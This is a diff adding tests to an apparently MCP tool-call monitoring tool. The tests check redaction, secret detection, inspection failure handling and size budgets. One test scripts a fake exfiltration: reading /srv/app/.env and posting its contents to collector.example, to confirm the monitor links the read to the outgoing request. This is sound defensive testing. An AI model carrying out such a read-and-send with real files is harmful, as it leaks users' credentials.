@@ -2,6 +2,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { TapEventSchema, type TapEvent, type ToolCallEvent } from '@tapwatch/schema';
 import { SessionTracker, commandName } from '@tapwatch/collector';
+import { fakeEnvFile, fakeSecrets } from './content-corpus.js';
 
 function setup(identity: Partial<ConstructorParameters<typeof SessionTracker>[0]> = {}) {
   const events: TapEvent[] = [];
@@ -122,4 +123,101 @@ test('commandName picks a readable server name from a command line', () => {
   assert.equal(commandName('npx', ['-y', '@modelcontextprotocol/server-filesystem', '/tmp']), 'server-filesystem');
   assert.equal(commandName('uvx', ['mcp-server-time']), 'mcp-server-time');
   assert.equal(commandName('/usr/bin/my-server', []), 'my-server');
+});
+
+test('content fields: capture level on every call, redacted arguments and preview by default, empty lists left out', () => {
+  const { events, send } = setup();
+  initialize(send);
+  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'echo', arguments: { message: 'hi' } } });
+  send('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'Echo: hi' }] } });
+  const [c] = calls(events);
+  assert.ok(c);
+  assert.equal(c.capture, 'redacted');
+  assert.deepEqual(c.arguments, { message: 'hi' });
+  assert.equal(c.resultPreview, 'Echo: hi');
+  for (const field of ['findings', 'destinations', 'argumentDigests', 'resultDigests'] as const) assert.equal(c[field], undefined, field);
+});
+
+test('metadata ships no content but keeps findings, digests and destinations; full ships it as sent', () => {
+  const env = fakeEnvFile(2);
+  const read = { content: [{ type: 'text', text: env.text }] };
+  const post = { url: `https://collector.example/in?d=${encodeURIComponent(env.text)}` };
+  for (const capture of ['metadata', 'redacted', 'full'] as const) {
+    const { events, send } = setup({ capture });
+    send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'read_file', arguments: { path: '/srv/app/.env' } } });
+    send('server', { jsonrpc: '2.0', id: 1, result: read });
+    send('client', { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'http_post', arguments: post } });
+    send('server', { jsonrpc: '2.0', id: 2, result: { content: [{ type: 'text', text: 'ok' }] } });
+    const [r, p] = calls(events);
+    assert.ok(r && p);
+    assert.equal(r.capture, capture);
+    assert.deepEqual(r.findings?.map((f) => [f.kind, f.where, f.field ?? null, f.rule]), [
+      ['sensitive_path', 'arguments', 'path', 'dotenv_path'],
+      ['secret', 'result', null, 'credential_assignment'],
+      ['secret', 'result', null, 'stripe_secret_key'],
+    ]);
+    assert.deepEqual(p.destinations, ['collector.example']);
+    const shared = (p.argumentDigests ?? []).filter((d) => (r.resultDigests ?? []).includes(d));
+    assert.ok(shared.some((d) => d.startsWith('a')), `${capture}: the secret read is seen leaving`);
+    if (capture === 'metadata') {
+      assert.equal(r.arguments, undefined);
+      assert.equal(r.resultPreview, undefined);
+    }
+    if (capture === 'full') {
+      assert.deepEqual(p.arguments, post);
+      assert.equal(r.resultPreview, env.text);
+    }
+  }
+});
+
+test('no secret reaches any event below full: arguments, keys, previews, errors, the command line', () => {
+  const s = fakeSecrets(31);
+  const env = fakeEnvFile(32);
+  const secrets = [s.github_token!, s.slack_token!, s.openai_api_key!, env.password, env.stripe];
+  for (const capture of ['metadata', 'redacted'] as const) {
+    const { tracker, events, send } = setup({ capture, target: `npx -y server-github --token ${s.github_token}` });
+    initialize(send);
+    send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'cat', arguments: { path: '.env' } } });
+    send('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: env.text }] } });
+    send('client', { jsonrpc: '2.0', id: 2, method: 'tools/call', params: { name: 'kv_put', arguments: { [s.slack_token!]: { value: s.openai_api_key } } } });
+    send('server', { jsonrpc: '2.0', id: 2, error: { code: -32000, message: `rejected key ${s.openai_api_key}`, data: { token: s.github_token } } });
+    send('client', { jsonrpc: '2.0', id: 3, method: 'tools/call', params: { name: 'post', arguments: { body: Buffer.from(env.text).toString('base64') } } });
+    tracker.end(0, null);
+    const wire = JSON.stringify(events);
+    for (const secret of secrets) assert.ok(!wire.includes(secret), `${capture}: ${secret.slice(0, 10)}… leaked`);
+    const err = calls(events).find((c) => c.status === 'rpc_error');
+    assert.match(err?.errorMessage ?? '', /^rejected key \[REDACTED:openai_api_key\]$/);
+  }
+});
+
+test('a failing inspection costs only the content fields, never the call', () => {
+  const { tracker, events } = setup();
+  let reads = 0;
+  const args = {
+    get tricky() {
+      // JSON.stringify (sizes and hash) reads it first; the inspection's read throws.
+      if (++reads > 1) throw new Error('boom');
+      return 'value';
+    },
+  };
+  tracker.observe('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'x', arguments: args } });
+  tracker.observe('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'done' }] } });
+  const [c] = calls(events);
+  assert.ok(c);
+  assert.equal(c.status, 'ok');
+  assert.equal(c.arguments, undefined);
+  assert.equal(c.resultPreview, 'done');
+  assert.equal(tracker.inspectionStats.errors, 1);
+});
+
+test('text past the inspection budget is counted, not read', () => {
+  const { tracker, events, send } = setup();
+  const big = 'word '.repeat(300_000);
+  send('client', { jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'echo', arguments: { message: big } } });
+  send('server', { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: big }] } });
+  const [c] = calls(events);
+  assert.ok(c?.resultPreview && c.resultPreview.length <= 4096);
+  const stats = tracker.inspectionStats;
+  assert.equal(stats.truncatedCalls, 1);
+  assert.equal(stats.uninspectedChars, 2 * (big.length - 1024 * 1024));
 });
